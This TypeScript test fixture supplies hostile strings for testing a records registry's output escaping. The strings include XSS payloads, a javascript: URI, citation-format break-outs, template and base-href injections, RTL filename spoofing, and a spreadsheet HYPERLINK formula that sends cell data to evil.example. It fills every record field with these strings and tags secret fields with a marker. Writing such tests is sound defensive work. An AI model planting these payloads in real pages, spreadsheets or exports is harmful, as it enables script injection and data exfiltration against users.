import { createHash } from "node:crypto";
import { newId } from "../src/kernel/ids.ts";
import {
  type Field,
  type Fields,
  type Localised,
  type RecordBody,
  scheme,
  TYPE_NAMES,
  TYPES,
  type TypeName,
} from "../src/registry/index.ts";

/** Strings that break out of pages, tables and citations which put them in without care. */
export const HOSTILE = [
  "<script>globalThis.ran = 1</script>",
  `"><x-evil onclick="globalThis.ran = 1" onmouseover=globalThis.ran=1>`,
  "'><img src=x onerror=globalThis.ran=1>",
  "</title></style></textarea></svg><svg onload=globalThis.ran=1><iframe srcdoc='<script>parent.ran=1</script>'>",
  "javascript:globalThis.ran=1//",
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  "one\r\nER  - \r\nTY  - JOUR\r\nTI  - two\n},\n@misc{evil, title = {three",
  `-->]]><![CDATA[<!--<base href=//evil.example>{{7*7}}\${7*7}<meta http-equiv=refresh content=0>`,
  "\u202Egnp.exe\u2066\u2067 [x](javascript:globalThis.ran=1) ![](//evil.example/x)",
] as const;

/** Stands in every field that must never leave the team. */
export const SECRET = "quillwortsecret";

const localised = (text: string): Localised => ({
  en: { text, status: "original" },
  ar: { text, status: "human", translator: text },
});
const digestOf = (text: string): string => createHash("sha256").update(text).digest("hex");

/** A record of every type with each of its fields filled, each free text being the hostile one; they refer to one another. */
export function hostileBodies(text: string): RecordBody[] {
  const ids = new Map(TYPE_NAMES.map((type) => [type, newId()]));
  return TYPE_NAMES.map((type) => bodyOf(type, text, (to) => ids.get(to) ?? newId()));
}

function bodyOf(type: TypeName, text: string, idOf: (type: TypeName) => string): RecordBody {
  const fields = fieldsOf(TYPES[type].fields, text, idOf);
  if (type === "agent") fields.kind = "company";
  const source = idOf("source");
  const names = Object.keys(TYPES[type].fields);
  return {
    id: idOf(type),
    handle: "",
    type,
    lang: "en",
    state: "published",
    visibility: "public",
    sensitivity: "none",
    licence: "CC-BY-4.0",
    title: localised(text),
    summary: localised(text),
    contentNotice: localised(text),
    fields,
    citations: names.map((field) => ({
      field,
      source,
      relation: "supports" as const,
      grade: "E2" as const,
      locator: { page: text.replace(/[\r\n]/g, " "), quote: text },
      note: text,
    })),
    editorial: names,
    notes: [
      { kind: "conflict", text: localised(text) },
      { kind: "caution", text: localised(text) },
    ],
    corrections: [
      {
        kind: "erratum",
        field: "title",
        before: text,
        after: text,
        reason: text,
        requestedBy: text,
        at: "2024-05-01T00:00:00.000Z",
      },
    ],
    provenance: { origin: text, key: text },
  } as RecordBody;
}

function fieldsOf(fields: Fields, text: string, idOf: (type: TypeName) => string): Record<string, unknown> {
  return Object.fromEntries(
    Object.entries(fields).map(([name, field]) => {
      const value = filling(field, field.secret ? `${SECRET} ${text}` : text, idOf);
      return [name, field.many ? [value] : value];
    }),
  );
}

function filling(field: Field, text: string, idOf: (type: TypeName) => string): unknown {
  switch (field.kind) {
    case "text":
      return text;
    case "localised":
      return localised(text);
    case "term":
      return scheme(field.scheme ?? "")?.terms[0]?.notation;
    case "ref":
      return idOf((field.to?.[0] ?? "source") as TypeName);
    case "place":
      return { country: "GR", label: text, lat: 38, lon: 24, precision: "exact", publicPrecision: "exact" };
    case "edtf":
      return "2019-05";
    case "instant":
      return "2024-05-01T00:00:00.000Z";
    case "range":
      return { min: 1, max: 2, basis: text };
    case "money":
      return { amount: 1, currency: "EUR", kind: text };
    case "number":
      return 1;
    case "flag":
      return true;
    case "url":
      return `https://evil.example/${text.replace(/\s/g, "+")}`;
    case "language":
      return "en";
    case "country":
      return "GR";
    case "digest":
      return digestOf(text);
    case "group":
      return fieldsOf(field.parts ?? {}, text, idOf);
  }
}
